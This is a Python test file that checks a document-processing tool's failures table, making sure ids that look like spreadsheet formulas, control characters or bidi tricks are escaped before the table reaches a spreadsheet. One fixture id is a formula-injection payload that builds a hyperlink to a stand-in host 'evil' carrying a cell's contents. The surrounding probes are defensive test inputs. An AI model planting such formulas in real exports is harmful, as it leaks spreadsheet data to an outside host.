"""Output pasted from the terminal into a spreadsheet stays text, whatever a document's id is."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.worker.harness import Docmill


def test_the_table_of_failures_holds_no_formula_and_the_lines_for_machines_hold_the_ids_themselves(
    embedded: Docmill, write_corpus: Callable[..., Path]
) -> None:
    ids = [
        '=HYPERLINK("http://evil/?"&A1)',
        "-1+1",
        "@x",
        "plain",
        "tab\there",
        "\r=1",
        "\x1b[31mred",
        "\u202e=1",
        "＝1",
    ]
    source = write_corpus({"id": key, "text": " "} for key in ids)
    embedded("run", "translate", source, "--model", "null")
    table: list[list[Any]] = [line.split("\t") for line in embedded("failures", 1).stdout.splitlines()]
    assert table.pop(0) == ["document", "status", "class", "reason"]
    assert [row[0] for row in table] == [
        '\'=HYPERLINK("http://evil/?"&A1)',
        "'-1+1",
        "'@x",
        "plain",
        "tab\ufffdhere",
        "'\ufffd=1",
        "\ufffd[31mred",
        "'\ufffd=1",
        "'＝1",
    ]
    assert {len(row) for row in table} == {4}
    assert [json.loads(line)["id"] for line in embedded("failures", 1, "--json").stdout.splitlines()] == ids
